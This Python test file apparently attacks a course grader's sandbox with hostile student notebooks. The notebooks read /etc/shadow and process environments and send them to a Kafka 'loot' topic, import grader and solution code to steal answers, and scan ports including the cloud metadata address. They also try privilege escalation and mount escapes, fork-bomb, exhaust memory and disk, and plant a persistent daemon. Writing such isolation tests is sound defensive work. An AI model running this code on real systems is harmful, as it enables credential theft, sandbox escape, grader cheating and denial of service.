"""Files, ports, processes, memory, disk and time of the machine on which it is graded."""

# ruff: noqa: E501 (an attack is one text, as somebody would paste it)

from __future__ import annotations

from attacks import ALL, Notebook, attack, first, named, replace

from grader.discover import ROOT

LOOT = '''
import os, subprocess, sys, pathlib
def keep(what):
    """Everything found goes to a topic of its own, whole."""
    from confluent_kafka.admin import AdminClient
    new = NewTopic(f"{ME}.loot", 1, 1)
    try: AdminClient(cluster.config).create_topics([new])[new.topic].result()
    except Exception: pass
    producer = Producer(cluster.config)
    raw = what.encode("utf-8", "replace")
    for start in range(0, min(len(raw), 40_000_000), 500_000):
        producer.produce(new.topic, raw[start:start + 500_000]); producer.poll(0.01)
    producer.flush(15)
    print(what[:5000])
'''


@attack(core=True)
def every_file_that_can_be_read_is_taken(notebook: Notebook) -> None:
    first(
        notebook,
        LOOT
        + """
found = []
skip = ("/proc", "/usr/lib/", "/usr/share", "/usr/bin", "/usr/local/lib", "/env/lib")
for folder, names, files in os.walk("/"):
    names[:] = [n for n in names if not os.path.join(folder, n).startswith(skip)]
    for name in files:
        try: found.append(f"{folder}/{name}\\n" + open(f"{folder}/{name}", errors="replace").read(50_000))
        except OSError as problem: found.append(str(problem))
for path in ["/etc/shadow", "/etc/passwd", "/root", "/home", "REPOSITORY", "/var", "/run", "/sys", "/mnt",
             os.path.expanduser("~"), "/proc/1/environ", "/proc/1/root/etc/shadow", "/proc/1/cwd", "/support", "/relay",
             "/proc/1/fd", "/proc/self/environ", "/proc/keys", "/proc/net/unix", "/proc/1/rootREPOSITORY", "/dev/mem", "/dev/vda"]:
    try: found.append(path + str(os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read(100_000)))
    except OSError as problem: found.append(str(problem))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("cmdline", "environ", "maps", "cgroup"):
        try: found.append(open(f"/proc/{pid}/{name}", errors="replace").read(50_000))
        except OSError as problem: found.append(str(problem))
keep("\\n".join(found))
keep(repr(dict(os.environ)))
""".replace("REPOSITORY", str(ROOT)),
    )


@attack(core=True)
def the_judge_and_the_solutions_are_imported(notebook: Notebook) -> None:
    first(
        notebook,
        LOOT
        + """
import importlib, importlib.util, inspect, site
found = [str(sys.path)]
for name in ("grader", "infra", "solutions", "tests", "solutions.lab01_log.checks", "grader.judge", "solutions.lab01_log.lab"):
    try: found.append(inspect.getsource(importlib.import_module(name)))
    except Exception as problem: found.append(repr(problem))
for folder in [*site.getsitepackages(), "REPOSITORY", ".."]:
    sys.path.insert(0, folder)
    for pattern in ("**/checks.py", "**/lab.py", "**/graded_run.py", "grader/**/*.py", "infra/**/*.py", "solutions/**/*.py"):
        for file in list(pathlib.Path(folder).glob(pattern))[:50]:
            try: found.append(f"{file}\\n{file.read_text()}")
            except OSError as problem: found.append(str(problem))
keep("\\n".join(found))
""".replace("REPOSITORY", str(ROOT)),
    )


@attack()
def ports_names_and_the_internet_are_tried(notebook: Notebook) -> None:
    first(
        notebook,
        LOOT
        + """
import socket
from concurrent.futures import ThreadPoolExecutor
allowed = {int(a.rpartition(":")[2]) for a in cluster.config["bootstrap.servers"].split(",")}
def reach(place):
    try:
        with socket.create_connection(place, 1.5) as there:
            return None if there.getsockname() == there.getpeername() else place  # itself, by chance
    except OSError: return None
places = [("127.0.0.1", port) for port in range(1, 65536)]
places += [(host, port) for host in ("1.1.1.1", "8.8.8.8", "169.254.169.254", "10.0.0.1", "172.17.0.1", "example.org", "::1") for port in (53, 80, 443)]
with ThreadPoolExecutor(60) as pool:
    open_ports = [p for p in pool.map(reach, places) if p]
print("REACHED", sorted(p for p in open_ports if p[1] not in allowed))
for family, address in ((socket.AF_UNIX, "\\0docker"), (socket.AF_UNIX, "/run/docker.sock"), (socket.AF_UNIX, "/run/dbus/system_bus_socket")):
    try: socket.socket(family).connect(address); print("REACHED", address)
    except OSError: pass
""",
    )


@attack(core=True)
def namespaces_mounts_and_privileges_are_tried(notebook: Notebook) -> None:
    first(
        notebook,
        LOOT
        + """
import ctypes, shutil
libc = ctypes.CDLL(None, use_errno=True)
def said(name, value): print("ESCAPED" if value == 0 else "held", name, value, ctypes.get_errno())
said("mount", libc.mount(b"none", b"/tmp/home", b"tmpfs", 0, None))
said("remount", libc.mount(b"none", b"/", None, 32 | 4096, None))
said("unshare user", libc.unshare(0x10000000))
said("unshare mount", libc.unshare(0x00020000))
said("setuid", libc.setuid(0))
said("setresuid", libc.setresuid(0, 0, 0))
said("chroot", libc.chroot(b"/tmp"))
said("sethostname", libc.sethostname(b"x", 1))
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["unshare", "-Ur", "id"], ["bwrap", "--ro-bind", "/", "/", "id"]):
    if shutil.which(command[0]):
        done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL)
        print("ESCAPED" if b"uid=0" in done.stdout else "held", command[0], done.returncode)
for path in ("/usr/bin/x", "/env/ours/workbook/x", "/etc/x", "/relay/x", "/support/x", "/x", "/dev/x", "/proc/sys/kernel/core_pattern"):
    try: open(path, "w").write("|/x"); print("ESCAPED", path)
    except OSError: pass
""",
    )


@attack(alone=True)
def processes_multiply(notebook: Notebook) -> None:
    first(
        notebook,
        """
import os, time
deadline = time.time() + 3
while time.time() < deadline:
    try:
        if os.fork() == 0:
            try: os.setsid()
            except OSError: pass
    except OSError:
        time.sleep(0.01)
""",
    )


@attack(alone=True)
def memory_disk_and_output_are_eaten(notebook: Notebook) -> None:
    first(notebook, "hold = []\nwhile True:\n    hold.append(bytearray(b'x' * 50_000_000))")
    first(
        notebook,
        "for n in range(600):\n    for folder in ('/tmp', '/tmp/work', '/dev/shm'):\n"
        "        try: open(f'{folder}/fill{n}', 'wb').write(b'x' * 1_000_000)\n        except OSError: pass",
    )
    first(notebook, "for _ in range(3000): print('x' * 100_000)")
    first(
        notebook,
        "import os\nfor _ in range(200): os.write(1, b'y' * 1_000_000); os.write(2, b'z' * 1_000_000)",
    )


@attack(core=True)
def a_daemon_waits_for_the_end(notebook: Notebook) -> None:
    first(
        notebook,
        '''
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", """
import json, signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
facts = json.load(open("/tmp/home/graded.json"))
from confluent_kafka import Producer
from confluent_kafka.admin import AdminClient, NewTopic
while True:
    try:
        AdminClient(facts["config"]).create_topics([NewTopic(facts["me"] + ".orders-late", 1, 1)])
    except Exception: pass
    time.sleep(0.5)
# daemon-canary-5d1f
"""])
    os._exit(0)
''',
    )


@attack()
def the_relay_is_given_a_thousand_connections_a_process(notebook: Notebook) -> None:
    first(
        notebook,
        """
import glob, os, socket, time
for _ in range(12):
    if os.fork() == 0:
        held = []
        end = time.time() + 40
        while time.time() < end:
            try:
                there = socket.socket(socket.AF_UNIX); there.settimeout(0.2)
                there.connect(glob.glob("/relay/*.sock")[0]); held.append(there)
            except OSError: time.sleep(0.05)
        os._exit(0)
time.sleep(6)
""",
    )


@attack(base="reference es", earned=ALL, core=True)
def a_correct_notebook_that_logs_to_stderr(notebook: Notebook) -> None:
    first(
        notebook,
        "import logging, os, sys, warnings\nlogging.basicConfig(level='DEBUG')\n"
        "print('%3|FAIL|rdkafka#producer-1', file=sys.stderr)\nos.write(2, b'%6|FAIL|rdkafka')\n"
        "warnings.warn('noise')",
    )
    honest = "".join(named(notebook, "answer-send")["source"])
    noisy = (
        "    logging.error('TIMES 0/20')\n    print('Traceback', file=sys.stderr)\n    refused = []"
    )
    replace(notebook, send=honest.replace("    refused = []", noisy, 1))


@attack(base="reference en", earned=ALL, core=True)
def an_honest_neighbour(notebook: Notebook) -> None:
    """Nothing is changed but a note that others might like to read."""
    first(notebook, "note = 'a-mark-of-another-student'")


@attack(base="Keeps a single copy", earned=ALL - {"orders_has_three_copies"}, core=True)
def an_honest_neighbour_with_one_mistake(notebook: Notebook) -> None:
    """A mistake of the lab's own list."""
